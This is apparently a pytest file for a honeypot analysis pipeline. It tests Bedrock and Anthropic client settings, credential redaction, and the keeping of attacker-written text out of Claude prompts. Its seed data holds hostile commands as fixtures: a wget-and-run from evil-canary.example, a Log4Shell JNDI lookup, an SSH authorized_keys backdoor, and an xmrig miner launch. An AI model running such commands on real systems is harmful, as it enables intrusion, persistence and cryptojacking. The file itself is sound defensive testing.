"""Whose API is asked, and what is sent there: Anthropic or Bedrock; attackers' texts, none of them, or nothing."""

import logging
import os

import pytest
from sqlalchemy import Engine, text

from rustbucket_pipeline.analysis.ahead import may_batch
from rustbucket_pipeline.analysis.clients import address_problem
from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis
from rustbucket_pipeline.claude_settings import Send
from rustbucket_pipeline.errors import ConfigurationError
from rustbucket_pipeline.settings import Settings, load_settings
from rustbucket_pipeline_tests.analysis.claude_server import ClaudeServer, faithful
from rustbucket_pipeline_tests.analysis.conftest import changed
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, login, request, session, tell

SECRET, TOKEN = "aws-secret-canary-91", "aws-session-canary-17"


@pytest.fixture
def attacked(database: Engine) -> Engine:
    """A digested window with texts that attackers wrote, in every list of the digest."""
    tell(
        database,
        [
            command("cd /tmp; wget http://evil-canary.example/canary-file.sh; sh canary-file.sh"),
            login("canary-user", "canary-password", 1, src_ip="203.0.113.77"),
            request("/canary-path?x=${jndi:ldap://203.0.113.78/canary}", 2),
            command("echo canary-key >> ~/.ssh/authorized_keys", 3),
        ],
    )
    session(database, "cd /tmp; wget http://evil-canary.example/canary-file.sh; sh canary-file.sh")
    build_digest(database, WINDOW, NOW, None)
    return database


@pytest.fixture
def bedrock(settings: Settings, claude: ClaudeServer, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Bedrock on loopback, its credentials where boto3 looks."""
    for name, value in {
        "AWS_ACCESS_KEY_ID": "AKIACANARY",
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "AWS_SESSION_TOKEN": TOKEN,
        "AWS_DEFAULT_REGION": "eu-central-1",
        "AWS_CONFIG_FILE": os.devnull,
        "AWS_SHARED_CREDENTIALS_FILE": os.devnull,
    }.items():
        monkeypatch.setenv(name, value)
    return changed(settings, CLAUDE_CLIENT="bedrock", CLAUDE_BASE_URL=claude.url)


def analysed(engine: Engine, settings: Settings) -> AnalysisOutcome:
    return build_analysis(engine, settings, WINDOW, NOW, None)


def test_bedrock_is_asked_by_its_own_names_with_signed_requests(
    attacked: Engine, bedrock: Settings, claude: ClaudeServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    outcome = analysed(attacked, bedrock)
    assert (outcome.status, outcome.cost_usd) == ("claude", 0.00125), "Bedrock's name costs what the model's does"
    assert claude.paths == ["/model/anthropic.claude-haiku-5-5/invoke"]
    assert "/eu-central-1/bedrock/aws4_request" in claude.headers_seen[0]["Authorization"]
    with attacked.connect() as connection:
        stored = str(connection.execute(text("SELECT * FROM claude_calls")).all())
    for secret in (SECRET, TOKEN):
        assert secret not in caplog.text + repr(outcome) + repr(bedrock) + stored


def test_bedrock_s_names_are_a_setting(attacked: Engine, bedrock: Settings, claude: ClaudeServer) -> None:
    profile = "eu.anthropic.claude-haiku-5-5-v1:0"
    named = bedrock.model_copy(update={"claude_bedrock_models": {"claude-haiku-5-5": profile}})
    assert analysed(attacked, named).status == "claude"
    assert claude.paths == [f"/model/{profile}/invoke"]


def test_a_refusal_on_bedrock_asks_the_next_model(attacked: Engine, bedrock: Settings, claude: ClaudeServer) -> None:
    claude.scenes = ["refusal", faithful]
    assert analysed(attacked, bedrock).status == "claude"
    assert claude.models == ["anthropic.claude-haiku-5-5", "anthropic.claude-sonnet-5-5"]


def test_bedrock_without_a_region_says_what_to_set(
    attacked: Engine, bedrock: Settings, claude: ClaudeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AWS_DEFAULT_REGION")
    assert analysed(attacked, bedrock).claude.startswith("not asked: CLAUDE_CLIENT=bedrock needs a region")
    assert claude.paths == []


def test_bedrock_without_credentials_leaves_a_complete_report(
    attacked: Engine, bedrock: Settings, claude: ClaudeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-north-1")  # the SDK remembers a region's credentials
    outcome = analysed(attacked, bedrock)
    assert (outcome.status, outcome.claude) == ("deterministic", "failed: no usable AWS credentials (RuntimeError)")
    assert claude.paths == []


def test_bedrock_knows_no_batches(bedrock: Settings, with_claude: Settings) -> None:
    assert not may_batch(bedrock, 1000)
    assert may_batch(with_claude, 1000)


def test_templates_hold_nothing_that_an_attacker_chose(
    attacked: Engine, with_claude: Settings, claude: ClaudeServer
) -> None:
    shy = with_claude.model_copy(update={"claude_send": Send.TEMPLATES})
    assert analysed(attacked, shy).status == "claude"
    (sent,) = claude.requests
    document = sent["messages"][-1]["content"][0]["content"][0]["text"]
    for chosen in (
        "canary-file",
        "evil-canary",
        "203.0.113",
        "canary-user",
        "canary-path",
        "canary-key",
        "8 characters",
    ):
        assert chosen not in document
    assert "wget" in document, "templates say what was done"
    assert '"not_shown":1' in document, "and that more is known"


def test_off_sends_nothing_whatever_the_key(attacked: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    off = changed(with_claude, ANTHROPIC_API_KEY="k", CLAUDE_BASE_URL=claude.url, CLAUDE_SEND="off")
    outcome = analysed(attacked, off)
    assert (outcome.status, outcome.claude) == ("deterministic", "off (CLAUDE_SEND=off)")
    assert claude.paths == []


def test_an_answer_never_enters_a_later_prompt(attacked: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
    phrase = "Zebras gallop over the purple ridge"

    def telling(document: dict[str, object]) -> dict[str, object]:
        return {**faithful(document), "summary": phrase + ".", "recommendations": ["Visit 8.8.8.8 now."]}

    claude.scenes = [telling]
    assert analysed(attacked, with_claude).status == "model-marked"
    tell(attacked, [command("nohup ./xmrig --donate-level 1 &", 60)])
    build_digest(attacked, WINDOW, NOW, None)
    assert analysed(attacked, with_claude).status == "model-marked"
    assert len(claude.requests) == 4, "each was asked for once more"
    assert phrase not in str(claude.requests)
    assert "Visit" not in str(claude.requests)


def test_plain_http_is_for_loopback_only(attacked: Engine, settings: Settings) -> None:
    away = changed(settings, ANTHROPIC_API_KEY="k", CLAUDE_BASE_URL="http://api.example")
    assert analysed(attacked, away).claude.startswith("not asked: CLAUDE_BASE_URL must be https://")
    assert address_problem("https://api.anthropic.com") is None
    assert address_problem("http://[::1]:80") is None
    assert address_problem("ftp://127.0.0.1") is not None
    assert address_problem("http://127.0.0.1.evil.example") is not None


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("CLAUDE_SEND", "everything"),
        ("CLAUDE_CLIENT", "vertex"),
        ("CLAUDE_BEDROCK_MODELS", "a"),
        ("CLAUDE_MODELS", ","),
    ],
)
def test_a_setting_that_means_nothing_is_refused_by_name(
    variable: str, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(variable, value)
    with pytest.raises(ConfigurationError, match=variable):
        load_settings()
